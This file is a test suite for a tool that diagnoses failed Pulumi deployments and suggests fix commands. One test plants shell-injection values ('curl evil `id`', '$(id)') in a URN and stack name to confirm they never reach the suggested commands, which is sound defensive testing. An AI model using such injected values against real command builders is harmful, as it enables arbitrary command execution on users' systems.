@@ -1,0 +1,145 @@
+"""What the offline rules make of facts."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from upshot.evidence.catalogue import load_catalogue
+from upshot.evidence.diagnose import diagnose
+from upshot.model import (
+    EngineWarning,
+    Facts,
+    Failure,
+    Outcome,
+    PolicyViolation,
+    StackRef,
+)
+
+DENIED = "AccessDenied: User: ci is not authorized to perform: sqs:CreateQueue"
+TIMED_OUT = "timeout while waiting for state to become 'ISSUED'"
+
+
+def failure(message: str, **fields: object) -> Failure:
+    defaults: dict[str, object] = {"headline": message.split("\n", maxsplit=1)[0]}
+    return Failure(message=message, **{**defaults, **fields})  # type: ignore[arg-type]
+
+
+def failed(*failures: Failure, **fields: object) -> Facts:
+    return Facts(outcome=Outcome.FAILED, failures=failures, **fields)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("outcome", [Outcome.SUCCEEDED, Outcome.UNKNOWN])
+def test_nothing_failed_has_no_class(outcome: Outcome) -> None:
+    assert diagnose(Facts(outcome=outcome)).failure_class == ""
+
+
+def test_a_success_has_no_class_whatever_its_warnings_say() -> None:
+    warning = EngineWarning(
+        message="error: AccessDenied, pending operations from previous deployment"
+    )
+    assert diagnose(Facts(outcome=Outcome.SUCCEEDED, warnings=(warning,))).failure_class == ""
+
+
+def test_an_interrupted_run_is_cancelled_whatever_failed_with_it() -> None:
+    facts = Facts(outcome=Outcome.CANCELLED, failures=(failure(DENIED),))
+    assert diagnose(facts).failure_class == "cancelled"
+
+
+def test_an_unknown_failure_is_unclassified_and_says_so() -> None:
+    found = diagnose(failed(failure("the frobnicator was miffed")))
+    assert found.failure_class == "unclassified"
+    assert "no rule" in found.explanation
+    assert found.retry == ""
+    assert found.next_steps
+
+
+def test_a_failure_without_any_message_is_unclassified() -> None:
+    assert diagnose(failed()).failure_class == "unclassified"
+
+
+def test_a_failure_whose_outcome_is_not_known_is_diagnosed_all_the_same() -> None:
+    facts = Facts(outcome=Outcome.UNKNOWN, failures=(failure(DENIED),))
+    assert diagnose(facts).failure_class == "permission-denied"
+
+
+def test_the_most_specific_signal_wins() -> None:
+    message = f"an unhandled error occurred: {DENIED}"
+    assert diagnose(failed(failure(message))).failure_class == "permission-denied"
+
+
+def test_the_root_cause_weighs_more_than_what_followed() -> None:
+    follower = failure("NoSuchBucket: The specified bucket does not exist", is_cascade=True)
+    assert diagnose(failed(failure(TIMED_OUT), follower)).failure_class == "not-ready"
+
+
+def test_a_later_failure_wins_when_the_first_says_nothing_specific() -> None:
+    found = diagnose(failed(failure(TIMED_OUT), failure(DENIED)))
+    assert found.failure_class == "permission-denied"
+
+
+def test_equal_classes_are_reported_as_ties() -> None:
+    message = "BucketNotEmpty and FunctionAlreadyExists and DependencyViolation ServiceException"
+    found = diagnose(failed(failure(message)))
+    assert found.ties
+    assert found.failure_class not in found.ties
+
+
+def test_a_mandatory_violation_is_a_policy_violation_and_an_advisory_one_is_not() -> None:
+    def facts(enforcement: str) -> Facts:
+        violation = PolicyViolation(policy="p", pack="k", enforcement=enforcement, message="no")
+        return failed(policy_violations=(violation,))
+
+    assert diagnose(facts("mandatory")).failure_class == "policy-violation"
+    assert diagnose(facts("advisory")).failure_class == "unclassified"
+
+
+def test_the_stack_is_named_only_when_the_facts_name_it() -> None:
+    locked = failure("the stack is currently locked by 1 lock(s)")
+    named = diagnose(failed(locked, stack=StackRef("acme", "shop", "prod")))
+    unnamed = diagnose(failed(locked))
+    assert any("`pulumi cancel --stack acme/shop/prod`" in step for step in named.next_steps)
+    assert any("`pulumi cancel`" in step for step in unnamed.next_steps)
+
+
+def test_the_missing_key_is_in_the_command_to_paste() -> None:
+    found = diagnose(failed(failure("Missing required configuration variable 'shop:dbName'")))
+    assert "pulumi config set shop:dbName <value>" in found.next_steps[0]
+
+
+def test_t23_a_hostile_stack_or_urn_reaches_no_command() -> None:
+    protected = failure(
+        "it is currently marked for protection", urn="urn:pulumi:x'; curl evil `id`"
+    )
+    found = diagnose(failed(protected, stack=StackRef("acme", "shop", "$(id)`")))
+    steps = " ".join(found.next_steps)
+    assert "evil" not in steps
+    assert "$(id)" not in steps
+    assert "'<URN>'" in steps
+
+
+def test_no_step_keeps_a_slot_open() -> None:
+    for found in load_catalogue():
+        for example in found.examples:
+            diagnosis = diagnose(failed(failure(example.message)))
+            assert "|" not in " ".join(diagnosis.next_steps)
+
+
+@settings(deadline=None, max_examples=40)
+@given(st.lists(st.text(max_size=200), max_size=5), st.sampled_from(list(Outcome)))
+def test_any_text_gets_a_known_class_or_none(messages: list[str], outcome: Outcome) -> None:
+    slugs = {found.slug for found in load_catalogue()}
+    facts = Facts(outcome=outcome, failures=tuple(failure(text or "x") for text in messages))
+    assert diagnose(facts).failure_class in {"", *slugs}
+
+
+def test_the_catalogue_is_not_read_before_the_first_diagnosis() -> None:
+    code = (
+        "import sys; from upshot.evidence.diagnose import diagnose;"
+        "assert 'tomllib' not in sys.modules and 'upshot.evidence.catalogue' not in sys.modules"
+    )
+    subprocess.run([sys.executable, "-c", code], check=True)
